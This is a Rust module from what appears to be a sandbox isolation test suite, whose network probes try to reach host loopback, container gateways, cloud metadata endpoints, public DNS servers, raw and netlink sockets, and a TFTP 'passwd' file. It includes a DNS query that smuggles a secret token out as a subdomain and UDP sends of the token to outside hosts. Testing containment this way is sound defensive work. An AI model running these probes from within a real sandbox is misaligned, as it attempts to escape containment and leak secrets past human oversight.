//! Reaching something over the network without the broker.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use super::sys::call;
use super::{Attack, Probe, Try, refused, worked};

pub(super) const ATTACKS: &[(&str, Probe)] = &[
    ("N01", host_services),
    ("N02", metadata),
    ("N03", name_servers),
    ("N04", raw_sockets),
    ("N05", ipv6),
    ("V04", user_network),
];

const PATIENCE: Duration = Duration::from_millis(400);

fn connect(address: IpAddr, port: u16) -> Try {
    let stream = TcpStream::connect_timeout(&SocketAddr::new(address, port), PATIENCE)?;
    // A port that connects to itself has reached nobody.
    if stream.local_addr()? == stream.peer_addr()? {
        return refused("connected to itself");
    }
    Ok("connected".to_owned())
}

fn send(address: IpAddr, port: u16, message: &[u8]) -> Try {
    let any: IpAddr = if address.is_ipv4() {
        Ipv4Addr::UNSPECIFIED.into()
    } else {
        Ipv6Addr::UNSPECIFIED.into()
    };
    let socket = UdpSocket::bind(SocketAddr::new(any, 0))?;
    socket.send_to(message, SocketAddr::new(address, port))?;
    Ok("sent".to_owned())
}

fn address(text: &str) -> IpAddr {
    text.parse().unwrap_or(IpAddr::V4(Ipv4Addr::UNSPECIFIED))
}

fn host_services(attack: &mut Attack<'_>) {
    let facts = attack.facts;
    attack.act("127.0.0.1 over TCP", || {
        connect(Ipv4Addr::LOCALHOST.into(), facts.tcp)
    });
    attack.act("::1 over TCP", || connect(Ipv6Addr::LOCALHOST.into(), facts.tcp6));
    attack.effect("127.0.0.1 over UDP", || {
        send(Ipv4Addr::LOCALHOST.into(), facts.udp, facts.token.as_bytes())
    });
    attack.act("0.0.0.0 over TCP", || {
        connect(Ipv4Addr::UNSPECIFIED.into(), facts.tcp)
    });
    attack.act("127.9.9.9 over TCP", || connect(address("127.9.9.9"), facts.tcp));
    attack.act("IPv4 in IPv6", || connect(address("::ffff:127.0.0.1"), facts.tcp));
    for host in &facts.addresses {
        attack.act(&format!("{host} over TCP"), || connect(*host, facts.tcp));
        attack.effect(&format!("{host} over UDP"), || {
            send(*host, facts.udp, facts.token.as_bytes())
        });
    }
    for gateway in ["10.0.2.2", "172.17.0.1", "192.168.122.1", "192.168.65.2"] {
        attack.act(&format!("{gateway} over TCP"), || {
            connect(address(gateway), facts.tcp)
        });
    }
}

fn metadata(attack: &mut Attack<'_>) {
    for host in [
        "169.254.169.254",
        "169.254.170.2",
        "169.254.169.253",
        "100.100.100.200",
        "192.0.0.192",
        "168.63.129.16",
        "fd00:ec2::254",
        "fd20:ce::254",
        "::ffff:169.254.169.254",
        "64:ff9b::a9fe:a9fe",
        "fe80::a9fe:a9fe",
    ] {
        attack.act(&format!("connect {host}"), || connect(address(host), 80));
    }
    let port = attack.facts.tcp;
    attack.substitute("connect what is there on any machine", || {
        connect(Ipv4Addr::LOCALHOST.into(), port)
    });
}

/// A question for the text record of a name that carries a secret.
fn question(token: &str) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [&token[..token.len().min(40)], "example", "com"] {
        message.push(u8::try_from(label.len()).unwrap_or(0));
        message.extend_from_slice(label.as_bytes());
    }
    message.extend_from_slice(&[0, 0, 16, 0, 1]);
    message
}

fn name_servers(attack: &mut Attack<'_>) {
    let facts = attack.facts;
    let question = question(&facts.token);
    for server in [
        "8.8.8.8",
        "1.1.1.1",
        "2606:4700:4700::1111",
        "10.0.2.3",
        "172.17.0.1",
    ] {
        let server = address(server);
        attack.act(&format!("ask {server} over UDP"), || send(server, 53, &question));
        for port in [53, 853, 443] {
            attack.act(&format!("connect {server} port {port}"), || connect(server, port));
        }
    }
    attack.act("ask all neighbours", || {
        send(address("224.0.0.251"), 5353, &question)
    });
    attack.act("ask for a text record at the sandbox's own name service", || {
        let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
        socket.set_read_timeout(Some(PATIENCE))?;
        if facts.outside {
            return refused("not tried outside");
        }
        socket.send_to(&question, (Ipv4Addr::LOCALHOST, 53))?;
        let mut answer = [0; 512];
        let got = socket.recv(&mut answer)?;
        let answers = if got >= 12 {
            u16::from_be_bytes([answer[6], answer[7]])
        } else {
            0
        };
        if answers == 0 {
            refused("no record")
        } else {
            Ok(format!("{answers} records"))
        }
    });
    let port = facts.udp;
    attack.substitute("send to what is there on any machine", || {
        send(Ipv4Addr::LOCALHOST.into(), port, &question)
    });
}

fn raw_sockets(attack: &mut Attack<'_>) {
    for (name, family, kind, protocol) in [
        ("raw IPv4", libc::AF_INET, libc::SOCK_RAW, 1),
        ("raw IPv6", libc::AF_INET6, libc::SOCK_RAW, 58),
        ("packet", libc::AF_PACKET, libc::SOCK_RAW, 0x0300),
        ("packet of one kind", libc::AF_PACKET, libc::SOCK_DGRAM, 0x0008),
        ("VM", libc::AF_VSOCK, libc::SOCK_STREAM, 0),
        ("Bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1),
        ("netlink audit", libc::AF_NETLINK, libc::SOCK_RAW, 9),
        ("netlink netfilter", libc::AF_NETLINK, libc::SOCK_RAW, 12),
        ("netlink connector", libc::AF_NETLINK, libc::SOCK_RAW, 11),
        ("netlink uevent", libc::AF_NETLINK, libc::SOCK_RAW, 15),
        ("netlink generic", libc::AF_NETLINK, libc::SOCK_RAW, 16),
    ] {
        attack.apart(&format!("make a {name} socket"), || {
            worked(call!(libc::SYS_socket, family, kind, protocol), "made")
        });
    }
    attack.apart("change the loopback interface", change_loopback);
}

/// Sets the largest packet of the loopback interface by the routing protocol.
fn change_loopback() -> Try {
    let socket = call!(
        libc::SYS_socket,
        libc::AF_NETLINK,
        libc::SOCK_RAW,
        libc::NETLINK_ROUTE
    )?;
    let mut message = Vec::new();
    message.extend_from_slice(&40_u32.to_ne_bytes());
    message.extend_from_slice(&16_u16.to_ne_bytes());
    message.extend_from_slice(&5_u16.to_ne_bytes());
    message.extend_from_slice(&[1, 0, 0, 0, 0, 0, 0, 0]);
    message.extend_from_slice(&[0, 0, 0, 0]);
    message.extend_from_slice(&1_i32.to_ne_bytes());
    message.extend_from_slice(&[0; 8]);
    message.extend_from_slice(&[8, 0, 4, 0]);
    message.extend_from_slice(&1500_u32.to_ne_bytes());
    let length = i64::try_from(message.len()).unwrap_or(0);
    call!(libc::SYS_sendto, socket, &mut message[..], length, 0, 0, 0)?;
    let mut answer = [0_u8; 512];
    call!(libc::SYS_recvfrom, socket, &mut answer[..], 512, 0, 0, 0)?;
    match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
        0 => Ok("changed".to_owned()),
        error => Err(io::Error::from_raw_os_error(-error)),
    }
}

fn ipv6(attack: &mut Attack<'_>) {
    let facts = attack.facts;
    attack.act("the host's loopback", || {
        connect(Ipv6Addr::LOCALHOST.into(), facts.tcp6)
    });
    for host in facts.addresses.iter().filter(|host| host.is_ipv6()) {
        attack.act(&format!("connect {host}"), || connect(*host, facts.tcp6));
    }
    for host in [
        "2606:4700:4700::1111",
        "2001:4860:4860::8888",
        "64:ff9b::808:808",
        "2002:808:808::1",
        "fe80::1",
    ] {
        attack.act(&format!("connect {host}"), || connect(address(host), 443));
        attack.act(&format!("send to {host}"), || {
            send(address(host), 443, facts.token.as_bytes())
        });
    }
    attack.act("send to all neighbours", || {
        send(address("ff02::1"), 5353, facts.token.as_bytes())
    });
}

fn user_network(attack: &mut Attack<'_>) {
    let facts = attack.facts;
    attack.act("the host's loopback by its alias", || {
        connect(address("10.0.2.2"), facts.tcp)
    });
    for (host, port) in [
        ("10.0.2.2", 22),
        ("10.0.2.2", 80),
        ("10.0.2.3", 53),
        ("10.0.2.4", 445),
        ("10.0.2.4", 139),
    ] {
        attack.act(&format!("connect {host} port {port}"), || {
            connect(address(host), port)
        });
    }
    attack.act("ask its name server", || {
        send(address("10.0.2.3"), 53, &question(&facts.token))
    });
    attack.act("ask its file server", || {
        send(address("10.0.2.2"), 69, b"\0\x01passwd\0octet\0")
    });
    let port = facts.tcp;
    attack.substitute("connect what is there on any machine", || {
        connect(Ipv4Addr::LOCALHOST.into(), port)
    });
}
